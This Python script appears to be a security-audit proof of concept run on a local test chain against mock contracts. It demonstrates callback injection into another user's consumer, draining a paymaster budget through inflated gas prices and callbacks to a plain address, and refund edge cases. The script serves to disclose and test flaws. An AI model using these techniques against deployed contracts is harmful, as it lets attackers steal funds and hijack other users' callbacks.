"""PointsPaymaster attacks against a DPrompt stand-in (Mocks.sol: DPrompt's fee formula and statuses).

A. Callback injection: any points holder can name ANY consumer that accepts the paymaster; the
   consumer cannot tell the request was not its owner's.
B. Budget draw by gas price: a request with a consumer that has no code (an EOA) makes the
   paymaster pay DPrompt a callback payment priced at the attacker's tx.gasprice, up to maxFee, for a
   callback that never runs; the fulfilling provider collects it.
C. Refund paths: refund of a fulfilled request, double refund, refund while the budget was defunded.
"""
import sys
sys.path.insert(0, __file__.rsplit("/", 1)[0])
from harness import DAY, UNIT, Anvil, H, mocks  # noqa: E402

with Anvil(port=29623) as chain:
    h = H(chain)
    h.rex_setup()
    m = mocks()
    PROVIDER = 5
    dp = h.deploy(m["MockDPrompt"], h.acct[PROVIDER].address)
    pm = h.deploy(h.c["PointsPaymaster"], dp.address, h.srex.address, 10 * UNIT, 10**16)
    h.send(0, h.srex.functions.setPointsSpender(pm.address))
    a0 = h.acct[0]
    raw = a0.sign_transaction({"to": pm.address, "value": UNIT, "gas": 60_000, "gasPrice": 2 * 10**9,
                               "nonce": h.w3.eth.get_transaction_count(a0.address), "chainId": h.w3.eth.chain_id})
    h.w3.eth.wait_for_transaction_receipt(h.w3.eth.send_raw_transaction(raw.raw_transaction))
    VICTIM, ATTACKER = 1, 2
    for who in (VICTIM, ATTACKER):
        h.send(who, h.srex.functions.stake(10_000 * UNIT))
    h.advance(DAY)
    victim_consumer = h.deploy(m["VictimConsumer"], pm.address, by=VICTIM)

    print("== A. callback injection into another user's consumer")
    r = h.send(ATTACKER, pm.functions.request(0, b"sell everything for X", victim_consumer.address, 150_000))
    rid = dp.functions.next().call() - 1
    rr = h.send(PROVIDER, dp.functions.fulfil(rid, 0xBAD))
    ev = pm.events.PointsPaymasterCallback().process_receipt(rr)
    print(f"  PointsPaymasterCallback ok={dict(ev[0].args) if ev else None}")
    print(f"  attacker's request {rid} -> victim consumer actions={victim_consumer.functions.actions().call()} "
          f"lastAnswer={hex(victim_consumer.functions.lastAnswer().call())} lastId={victim_consumer.functions.lastId().call()}")
    print(f"  requestOf({rid}) user = attacker? {pm.functions.requestOf(rid).call()[0] == h.acct[ATTACKER].address}")

    print("== B. budget drawn by the attacker's gas price, callback to an EOA (never runs)")
    b0 = pm.functions.budget().call()
    pts0 = h.srex.functions.pointsOf(h.acct[ATTACKER].address).call()
    eoa = h.acct[7].address
    base_fee = dp.functions.requiredPayment(0, 0, 0).call()
    cb = 2_000_000 - 40_000  # DPrompt's maxCallbackGasLimit is capped at 2,000,000
    gp = (10**16 - 10**14) // (cb + 40_000 + 15_000) - 10**9  # the gas price that makes the fee = maxFee
    r = h.send(ATTACKER, pm.functions.request(0, b"x", eoa, cb), gas_price=gp)
    rid = dp.functions.next().call() - 1
    fee = dp.functions.requestState(rid).call()[5]
    h.send(PROVIDER, dp.functions.fulfil(rid, 1))
    spent_gas = r["gasUsed"] * gp
    print(f"  points spent {(pts0 - h.srex.functions.pointsOf(h.acct[ATTACKER].address).call()) / UNIT:.1f}; "
          f"budget paid {fee} wei (model fee alone {base_fee}); attacker's request tx gas cost {spent_gas} wei; "
          f"callbackGasLimit={cb}; budget {b0} -> {pm.functions.budget().call()}")
    print(f"  provider credited {dp.functions.earned().call()} wei in fees so far")
    n = 0
    while pm.functions.budget().call() >= 10**16 and n < 200:
        h.send(ATTACKER, pm.functions.request(0, b"x", eoa, cb), gas_price=gp)
        n += 1
    print(f"  {n} more such requests emptied the 1-native budget to {pm.functions.budget().call()} wei; "
          f"attacker points left {h.srex.functions.pointsOf(h.acct[ATTACKER].address).call() / UNIT:.1f}")
    r = h.send(VICTIM, pm.functions.request(0, b"honest", victim_consumer.address, 150_000), ok=False)
    print(f"  an honest callback request (150k gas, 1 gwei) now: status={r['status']}")

    print("== C. refund paths")
    raw = a0.sign_transaction({"to": pm.address, "value": UNIT, "gas": 60_000, "gasPrice": 2 * 10**9,
                               "nonce": h.w3.eth.get_transaction_count(a0.address), "chainId": h.w3.eth.chain_id})
    h.w3.eth.wait_for_transaction_receipt(h.w3.eth.send_raw_transaction(raw.raw_transaction))
    h.send(VICTIM, pm.functions.request(0, b"a", "0x" + "00" * 20, 0))
    fid = dp.functions.next().call() - 1
    h.send(PROVIDER, dp.functions.fulfil(fid, 1))
    print(f"  refund of a fulfilled request: status={h.send(3, pm.functions.refund(fid), ok=False)['status']}")
    h.send(VICTIM, pm.functions.request(0, b"b", "0x" + "00" * 20, 0))
    mid = dp.functions.next().call() - 1
    print(f"  refund before the deadline: status={h.send(3, pm.functions.refund(mid), ok=False)['status']}")
    h.send(0, pm.functions.defund(pm.functions.budget().call()))
    print(f"  foundation defunded all: budget={pm.functions.budget().call()}")
    h.advance(601)
    p_before = h.srex.functions.pointsOf(h.acct[VICTIM].address).call()
    h.send(3, dp.functions.reclaim(mid))  # third party settles on DPrompt first
    r1 = h.send(3, pm.functions.refund(mid), ok=False)
    r2 = h.send(4, pm.functions.refund(mid), ok=False)
    print(f"  third-party reclaim then refund: status={r1['status']}, again: status={r2['status']}; "
          f"victim points +{(h.srex.functions.pointsOf(h.acct[VICTIM].address).call() - p_before) / UNIT:.2f}; "
          f"budget back {pm.functions.budget().call()}")
